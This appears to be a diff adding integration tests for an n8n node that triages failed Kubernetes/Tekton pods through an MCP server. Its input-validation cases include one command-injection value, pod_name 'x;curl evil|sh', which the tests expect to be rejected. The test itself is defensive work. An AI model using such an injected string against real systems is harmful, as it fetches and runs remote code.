@@ -1,0 +1,125 @@
+import type { ICredentialDataDecryptedObject, IDataObject } from 'n8n-workflow';
+import { McpServerApi } from '../../credentials/McpServerApi.credentials';
+import { FailureTriage } from '../../nodes/FailureTriage/FailureTriage.node';
+import { fixtures } from '../fixtures/cluster';
+import { startFixtureCluster, type FixtureCluster } from '../support/fixture-cluster';
+import { startKubernetesMcpServer, type KubernetesMcpServer } from '../support/kubernetes-mcp-server';
+import { unusedPort } from '../support/mcp-test-server';
+import { runWorkflow, type WorkflowJson } from '../support/n8n-engine';
+
+const nodeTypes = { 'n8n-nodes-mcp-devops.failureTriage': new FailureTriage() };
+const credentialTypes = [new McpServerApi()];
+const tekton = fixtures.tektonBuildFailure;
+
+function triageWorkflow(parameters: IDataObject, settings: IDataObject = {}, render?: IDataObject): WorkflowJson {
+	const nodes: WorkflowJson['nodes'] = [
+		{ id: '1', name: 'Start', type: 'test.start', typeVersion: 1, position: [0, 0], parameters: {} },
+		{
+			id: '2',
+			name: 'Triage',
+			type: 'n8n-nodes-mcp-devops.failureTriage',
+			typeVersion: 1,
+			position: [200, 0],
+			parameters,
+			credentials: { mcpServerApi: { id: '1', name: 'cluster' } },
+			...settings,
+		},
+	];
+	const connections: WorkflowJson['connections'] = { Start: { main: [[{ node: 'Triage', type: 'main', index: 0 }]] } };
+	if (render) {
+		nodes.push({ id: '3', name: 'Render', type: 'n8n-nodes-mcp-devops.failureTriage', typeVersion: 1, position: [400, 0], parameters: { operation: 'render', ...render } });
+		connections.Triage = { main: [[{ node: 'Render', type: 'main', index: 0 }]] };
+	}
+	return { nodes, connections };
+}
+
+describe('Failure Triage node in n8n’s engine', () => {
+	let cluster: FixtureCluster;
+	let server: KubernetesMcpServer;
+	let credentials: Record<string, ICredentialDataDecryptedObject>;
+
+	beforeAll(async () => {
+		cluster = await startFixtureCluster();
+		server = await startKubernetesMcpServer({ version: '0.0.67', kubeconfigPath: cluster.kubeconfigPath, env: { KUBE_CLIENT_QPS: '100', KUBE_CLIENT_BURST: '200' } });
+		credentials = { mcpServerApi: { url: server.url, transport: 'auto', authentication: 'none', timeout: 15_000 } };
+	});
+	afterAll(async () => {
+		await server?.stop();
+		await cluster?.close();
+	});
+
+	const run = (workflow: WorkflowJson, inputItems: IDataObject[], creds = credentials) => runWorkflow({ workflow, nodeTypes, credentials: creds, credentialTypes, inputItems });
+
+	it('collects and analyses each item, webhook items and CloudEvents included, then renders', async () => {
+		const result = await run(triageWorkflow({ operation: 'collect', source: 'item' }, {}, { runUrl: 'https://dashboard.example/run/1' }), [
+			{ namespace: tekton.namespace, pod_name: tekton.podName },
+			{ headers: { 'content-type': 'application/json' }, query: {}, params: {}, body: { namespace: 'shop', pod_name: fixtures.imagePullBackOff.podName } },
+			{
+				headers: { 'ce-type': 'dev.tekton.event.taskrun.failed.v1' },
+				body: { taskRun: { metadata: { name: 'build-and-test-run-abc12-build', namespace: 'ci' }, status: { podName: tekton.podName } } },
+			},
+		]);
+		expect(result.status).toBe('success');
+		const reports = result.outputOf('Triage').map((item) => item.json);
+		expect(reports.map((r) => r.category)).toEqual(['compile_error', 'image_pull', 'compile_error']);
+		expect(reports[0].fingerprint).toBe(reports[2].fingerprint);
+		expect(JSON.stringify(reports[0])).not.toContain('"log":"');
+		const rendered = result.outputOf('Render').map((item) => item.json);
+		expect(rendered[0].title).toMatch(/^\[build-and-test\/build\] Compile error: /);
+		expect(rendered[0].body).toContain(`<!-- fingerprint: ${reports[0].fingerprint} -->`);
+		expect(rendered[0].html).toContain('https://dashboard.example/run/1');
+		expect(result.outputOf('Render').map((item) => item.pairedItem)).toEqual([{ item: 0 }, { item: 1 }, { item: 2 }]);
+	});
+
+	it('takes the pod from fields', async () => {
+		const result = await run(triageWorkflow({ operation: 'collect', source: 'fields', namespace: 'data', podName: fixtures.oomKilled.podName }), [{}]);
+		expect(result.outputOf('Triage')[0].json).toMatchObject({ category: 'oom_killed', facts: { exitCode: 137 } });
+	});
+
+	it('files what it knows when the MCP server is down', async () => {
+		const port = await unusedPort();
+		const down = { mcpServerApi: { url: `http://127.0.0.1:${port}/mcp`, transport: 'auto', authentication: 'none', timeout: 3000 } };
+		const result = await run(triageWorkflow({ operation: 'collect', source: 'item' }), [{ namespace: 'ci', pod_name: 'build-pod', container_name: 'step-build' }], down);
+		const report = result.outputOf('Triage')[0].json;
+		expect(report).toMatchObject({ complete: false, category: 'unknown', location: { namespace: 'ci', pod: 'build-pod', container: 'step-build' } });
+		expect((report.problems as IDataObject[])[0].what).toBe('the cluster (MCP server)');
+		expect(String((report.problems as IDataObject[])[0].why)).toMatch(/connection refused/);
+	});
+
+	it('analyses a log given directly', async () => {
+		const result = await run(
+			triageWorkflow({ operation: 'analyse', log: '={{ $json.log }}', logContext: { container: 'step-test', pipelineTask: 'unit-tests' } }),
+			[{ log: 'collecting...\nFAILED tests/test_api.py::test_create - AssertionError: 500 != 201\n=== 1 failed, 41 passed in 3.2s ===' }],
+		);
+		expect(result.outputOf('Triage')[0].json).toMatchObject({ category: 'test_failure', evidence: [{ line: 2 }] });
+	});
+
+	describe('bad input gets a clear error naming the field, and nothing is read', () => {
+		it.each([
+			[{ pod_name: 'p' }, 'namespace is missing: expected the namespace of the failed pod', 'namespace'],
+			[{ namespace: 'ci' }, 'pod_name is missing', 'pod_name'],
+			[{ namespace: 'ci', pod_name: 'x;curl evil|sh' }, 'pod_name "x;curl evil|sh" is not a valid Kubernetes name', 'pod_name'],
+			[{ headers: { 'ce-type': 'dev.tekton.event.taskrun.started.v1' }, body: { taskRun: {} } }, 'is not a Tekton failure event', 'ce-type'],
+			[{ headers: {}, body: 'this is not json' }, 'body is not JSON', 'body'],
+		])('%j', async (input, message, field) => {
+			const before = cluster.requests.length;
+			const result = await run(triageWorkflow({ operation: 'collect', source: 'item' }, { onError: 'continueRegularOutput' }), [input as IDataObject]);
+			const item = result.outputOf('Triage')[0].json;
+			expect(item.error).toContain(message);
+			expect(item.field).toBe(field);
+			expect(cluster.requests.length).toBe(before);
+		});
+
+		it('stops the workflow with the message when Continue On Fail is off', async () => {
+			const result = await run(triageWorkflow({ operation: 'collect', source: 'item' }), [{ namespace: 'Bad_NS', pod_name: 'p' }]);
+			expect(result.status).toBe('error');
+			expect(result.errorOf('Triage')?.message).toMatch(/^namespace "Bad_NS" is not a valid Kubernetes name/);
+			expect(result.errorOf('Triage')?.description).toBe('Bad input in field "namespace"; nothing was read from the cluster.');
+		});
+
+		it('render refuses something that is not a report', async () => {
+			const result = await run(triageWorkflow({ operation: 'render', report: '={{ $json }}' }), [{ hello: 'world' }]);
+			expect(result.errorOf('Triage')?.message).toMatch(/^report is not a Failure Triage report/);
+		});
+	});
+});
